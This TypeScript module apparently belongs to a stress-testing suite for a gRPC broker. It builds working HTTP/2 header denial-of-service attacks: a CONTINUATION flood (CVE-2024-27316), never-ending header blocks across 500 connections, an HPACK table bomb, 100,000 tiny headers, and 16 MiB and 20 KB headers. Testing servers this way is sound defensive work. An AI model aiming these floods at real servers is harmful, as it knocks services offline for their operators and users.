/** Heads that do not end, are too large, or become large when they are unpacked. */
import { callBlock, END_HEADERS, Frame, frame, named, textOf } from '../../support/http2-frames.ts';
import { type Attack, streamIds } from './attacker.ts';

const PATH = '/broker.Broker/Publish';
const FRAME_BYTES = 16_384;
const NOTHING = Buffer.alloc(0);

/** A literal that goes into the dynamic table (RFC 7541, section 6.2.1); its index is then 62. */
function indexed(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0x40]), textOf(name), textOf(value)]);
}

/** HEADERS and as many CONTINUATION frames as the block needs. */
function inFrames(stream: number, block: Buffer): Buffer {
  const parts: Buffer[] = [];
  for (let at = 0; at < block.length || at === 0; at += FRAME_BYTES) {
    const end = at + FRAME_BYTES >= block.length ? END_HEADERS : 0;
    const type = at === 0 ? Frame.HEADERS : Frame.CONTINUATION;
    parts.push(frame(type, end, stream, block.subarray(at, at + FRAME_BYTES)));
  }
  return Buffer.concat(parts);
}

function blocks(make: (round: number) => Buffer): Attack['run'] {
  return (attacker) =>
    attacker.onConnections(4, {}, async (connection) => {
      const ids = streamIds();
      for (let round = 0; !connection.isClosed && !attacker.isOver; round++) {
        await connection.write(inFrames(ids.next().value, make(round)));
        attacker.count('heads');
        await attacker.breathe();
      }
    });
}

const TABLE_VALUE = 'v'.repeat(4_000);
const REFERENCES = Buffer.alloc(60_000, 0x80 | 62);
const MANY_TINY = Buffer.concat([
  callBlock(PATH),
  ...Array.from({ length: 100_000 }, (_, i) => named(i.toString(36), '')),
]);
const LARGE = Buffer.concat([callBlock(PATH), named('x', 'v'.repeat(16 << 20))]);
const OVERSIZED = Buffer.concat([callBlock(PATH), named('x-large', 'v'.repeat(20_000))]);

export const HEADERS: readonly Attack[] = [
  {
    name: 'continuation-flood',
    about: 'HEADERS, and empty or small CONTINUATION frames for ever (CVE-2024-27316)',
    run: (attacker) =>
      attacker.onConnections(4, {}, async (connection) => {
        await connection.write(frame(Frame.HEADERS, 0, 1, callBlock(PATH)));
        const more = frame(Frame.CONTINUATION, 0, 1, named('a', 'b'));
        const burst = Buffer.concat(Array.from({ length: 500 }, () => more));
        while (!connection.isClosed && !attacker.isOver) {
          await connection.write(burst);
          attacker.count('frames', 500);
          await attacker.breathe();
        }
      }),
  },
  {
    name: 'unfinished-heads',
    about: '500 connections with a head that never ends',
    run: (attacker) =>
      attacker.onConnections(500, {}, async (connection) => {
        await connection.write(frame(Frame.HEADERS, 0, 1, callBlock(PATH)));
        attacker.count('heads');
        await connection.closed();
      }),
  },
  {
    name: 'hpack-bomb',
    about: 'an entry of 4 KB in the dynamic table, named 60,000 times in one head',
    run: blocks((round) =>
      Buffer.concat([callBlock(PATH), round === 0 ? indexed('x-bomb', TABLE_VALUE) : NOTHING, REFERENCES]),
    ),
  },
  { name: 'tiny-headers', about: '100,000 headers of a few bytes in one head', run: blocks(() => MANY_TINY) },
  { name: 'large-header', about: 'one header of 16 MiB', run: blocks(() => LARGE) },
  {
    name: 'oversized-metadata',
    about: 'a header of 20 KB, above the list that is taken',
    run: blocks(() => OVERSIZED),
  },
];
